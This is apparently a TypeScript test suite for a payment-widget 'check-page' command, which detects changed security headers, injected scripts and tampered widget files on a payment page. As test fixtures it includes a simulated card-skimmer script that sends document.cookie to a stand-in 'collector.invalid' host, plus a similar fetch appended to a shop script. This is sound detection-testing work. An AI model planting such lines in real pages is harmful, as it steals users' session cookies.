// `payment-widget check-page`: a payment page served on loopback as widgetTags() and
// pageSecurityHeaders() teach (a new nonce on every response), with the built dist/ beside it.
// Unchanged, it passes; a changed header, an added script, a script's changed bytes and a
// widget file that is not the one built each fail, named. Every fetch is bounded.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { pageSecurityHeaders, widgetTags } from '../../../src/server/index.ts';
import { builtManifest } from '../../../src/server/page/built.ts';
import { CHECK_LIMITS, differences, snapshotPage } from '../../../src/server/page/check.ts';

const DIST = 'dist';
const MISSING = 'dist/ is missing: run `npm run build` first (`npm test` builds before this suite)';

/** What the page serves now; each test changes it and puts it back. */
const page = {
  extra: {} as Record<string, string[]>,
  injected: '',
  shopScript: 'document.documentElement.dataset.shop = "1";',
  /** Files of dist/ served with other bytes. */
  tampered: new Map<string, string>(),
};

let server: Server;
let origin = '';

before(async () => {
  assert.ok(existsSync(join(DIST, 'integrity.json')), MISSING);
  server = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    if (path === '/pay') {
      const nonce = randomBytes(16).toString('base64');
      const tags = widgetTags({ assetsUrl: '/assets/', nonce });
      const headers = pageSecurityHeaders({ nonce, extra: { ...tags.csp, ...page.extra } });
      res.writeHead(200, { 'content-type': 'text/html', ...headers });
      res.end(
        `<!doctype html><title>Pay</title>${tags.html}<script nonce="${nonce}" src="/shop.js"></script>${page.injected}<payment-widget></payment-widget>`,
      );
    } else if (path === '/shop.js') {
      res.end(page.shopScript);
    } else if (path === '/skimmer.js') {
      res.end('fetch("https://collector.invalid/" + document.cookie);');
    } else if (path.startsWith('/assets/')) {
      const file = path.slice('/assets/'.length);
      const tampered = page.tampered.get(file);
      if (tampered !== undefined) return void res.end(tampered);
      if (file.includes('..') || !existsSync(join(DIST, file)))
        return void res.writeHead(404).end();
      res.end(readFileSync(join(DIST, file)));
    } else if (path === '/loop') {
      res.writeHead(302, { location: '/loop' }).end();
    } else if (path === '/huge') {
      res.end('x'.repeat(64 * 1024));
    } else if (path === '/silent') {
      // Never answers: the check's own deadline ends the wait.
    } else {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

after(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

/** An origin on a loopback port nobody listens on. */
async function closedOrigin(): Promise<string> {
  const closed = createServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const { port } = closed.address() as AddressInfo;
  await new Promise((resolve) => closed.close(resolve));
  return `http://127.0.0.1:${port}`;
}

const snapshot = () => snapshotPage(`${origin}/pay`, builtManifest());

test('an unchanged page passes, whatever its per-response nonce', async () => {
  const baseline = await snapshot();
  assert.deepEqual(baseline.problems, []);
  assert.match(baseline.headers['content-security-policy'] ?? '', /'nonce-\*'/);
  const srcs = baseline.scripts.map((s) => s.src);
  assert.ok(srcs.includes(`${origin}/assets/payment-widget.iife.js`));
  assert.ok(srcs.includes(`${origin}/shop.js`));
  // The widget's own files, which the page never names, are recorded too.
  assert.ok(srcs.includes(`${origin}/assets/parts/pay.js`));
  assert.ok(srcs.includes(`${origin}/assets/locales/de-DE.js`));
  assert.deepEqual(differences(baseline, await snapshot()), []);
});

test('a changed header fails, named, with what it was and is', async (t) => {
  const baseline = await snapshot();
  page.extra = { 'script-src': ['https://tag-manager.example'] };
  t.after(() => {
    page.extra = {};
  });
  const found = differences(baseline, await snapshot());
  assert.equal(found.length, 1, found.join('\n'));
  assert.match(found[0] ?? '', /^header content-security-policy changed:/);
  assert.match(found[0] ?? '', /now: .*https:\/\/tag-manager\.example/);
});

test('an added script fails, named', async (t) => {
  const baseline = await snapshot();
  page.injected = '<script src="/skimmer.js"></script>';
  t.after(() => {
    page.injected = '';
  });
  assert.deepEqual(
    differences(baseline, await snapshot()).map((d) => d.replace(/ \(sha384-.*\)$/, '')),
    [`script added: ${origin}/skimmer.js`],
  );
});

test("a script's changed bytes fail, named; so does a widget file that is not the one built", async (t) => {
  const baseline = await snapshot();
  page.shopScript += '\nfetch("https://collector.invalid/");';
  page.tampered.set('parts/pay.js', 'globalThis.skimmed = true;');
  t.after(() => {
    page.shopScript = 'document.documentElement.dataset.shop = "1";';
    page.tampered.clear();
  });
  const found = differences(baseline, await snapshot());
  assert.ok(
    found.some((d) => d.startsWith(`script changed: ${origin}/shop.js`)),
    found.join('\n'),
  );
  assert.ok(found.some((d) => d.startsWith(`script changed: ${origin}/assets/parts/pay.js`)));
  assert.ok(
    found.some((d) =>
      d.startsWith(`${origin}/assets/parts/pay.js: not the parts/pay.js of payment-widget`),
    ),
    found.join('\n'),
  );
});

test('an added script the check cannot read (its host down, a 404) fails, named with why; so does one in the baseline', async (t) => {
  const down = `${await closedOrigin()}/skim.js`;
  const baseline = await snapshot();
  page.injected = `<script src="${down}"></script><script src="/gone.js"></script>`;
  t.after(() => {
    page.injected = '';
  });
  const now = await snapshot();
  assert.deepEqual(differences(baseline, now), [
    `script added: ${down} (unreadable (ECONNREFUSED))`,
    `script added: ${origin}/gone.js (unreadable (answered 404))`,
    `${down}: unreadable (ECONNREFUSED)`,
    `${origin}/gone.js: unreadable (answered 404)`,
  ]);
  // Recorded as the baseline, it still fails every run: the check cannot vouch for it.
  assert.equal(differences(now, await snapshot()).length, 2);
});

test('every fetch is bounded: redirects, bytes and time', async () => {
  await assert.rejects(snapshotPage(`${origin}/loop`, builtManifest()), /more than 5 redirects/);
  await assert.rejects(
    snapshotPage(`${origin}/huge`, builtManifest(), { ...CHECK_LIMITS, maxBytes: 1024 }),
    /more than 1024 bytes/,
  );
  await assert.rejects(
    snapshotPage(`${origin}/silent`, builtManifest(), { ...CHECK_LIMITS, timeoutMs: 200 }),
    /timeout|aborted/i,
  );
});

/**
 * The command, from the sources as Node runs them (or `file`: bin/payment-widget.js, the built
 * one): its exit code and what it printed.
 */
function paymentWidget(...args: string[]): Promise<{ code: number | null; out: string }> {
  return command('src/server/page/check-cli.ts', ...args);
}

function command(file: string, ...args: string[]): Promise<{ code: number | null; out: string }> {
  const child = spawn(process.execPath, [file, ...args]);
  let out = '';
  child.stdout.on('data', (d) => {
    out += String(d);
  });
  child.stderr.on('data', (d) => {
    out += String(d);
  });
  return new Promise((resolve) => child.on('exit', (code) => resolve({ code, out })));
}

const checkPage = (...args: string[]) => paymentWidget('check-page', ...args);

test('asked for the sandbox, the command names the one that runs it (exit 2)', async () => {
  const asked = await paymentWidget('sandbox');
  assert.equal(asked.code, 2, asked.out);
  assert.match(
    asked.out,
    /^payment-widget: the sandbox is a command of its own: npx payment-sandbox\n/,
  );
});

test('the command records a baseline, passes unchanged (exit 0) and names a change (exit 1)', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'check-page-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const baseline = join(dir, 'baseline.json');
  const first = await checkPage(`${origin}/pay`, '--baseline', baseline);
  assert.equal(first.code, 0, first.out);
  assert.match(first.out, /records .*\/pay: 2 security headers/);
  const same = await checkPage(`${origin}/pay`, '--baseline', baseline);
  assert.equal(same.code, 0, same.out);
  page.injected = '<script src="/skimmer.js"></script>';
  t.after(() => {
    page.injected = '';
  });
  const changed = await checkPage(`${origin}/pay`, '--baseline', baseline);
  assert.equal(changed.code, 1, changed.out);
  assert.match(changed.out, /script added: .*\/skimmer\.js/);
  page.injected = '<script src="/gone.js"></script>';
  const unreadable = await checkPage(`${origin}/pay`, '--baseline', baseline);
  assert.equal(unreadable.code, 1, unreadable.out);
  assert.match(unreadable.out, /script added: .*\/gone\.js \(unreadable \(answered 404\)\)/);
  const unreachable = await checkPage(`${origin}/loop`, '--baseline', baseline);
  assert.equal(unreachable.code, 2, unreachable.out);
  const down = `${await closedOrigin()}/pay`;
  const refused = await checkPage(down, '--baseline', baseline);
  assert.equal(refused.code, 2, refused.out);
  assert.ok(refused.out.includes(`could not be checked: ${down}: ECONNREFUSED\n`), refused.out);
});

test('the built command checks the widget’s own files against the package’s integrity.json', async (t) => {
  // The Node build carries only the bundles' hashes (widgetTags()'s); the command reads the
  // parts' and locales' from dist/integrity.json beside it.
  assert.ok(existsSync(join(DIST, 'node', 'check-page-cli.js')), MISSING);
  const dir = mkdtempSync(join(tmpdir(), 'check-page-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const baseline = join(dir, 'baseline.json');
  const built = (...args: string[]) =>
    command(
      'bin/payment-widget.js',
      'check-page',
      `${origin}/pay`,
      '--baseline',
      baseline,
      ...args,
    );
  const first = await built();
  assert.equal(first.code, 0, first.out);
  page.tampered.set('locales/de-DE.js', 'globalThis.skimmed = true;');
  t.after(() => page.tampered.clear());
  const changed = await built();
  assert.equal(changed.code, 1, changed.out);
  assert.match(
    changed.out,
    /\/assets\/locales\/de-DE\.js: not the locales\/de-DE\.js of payment-widget/,
  );
});
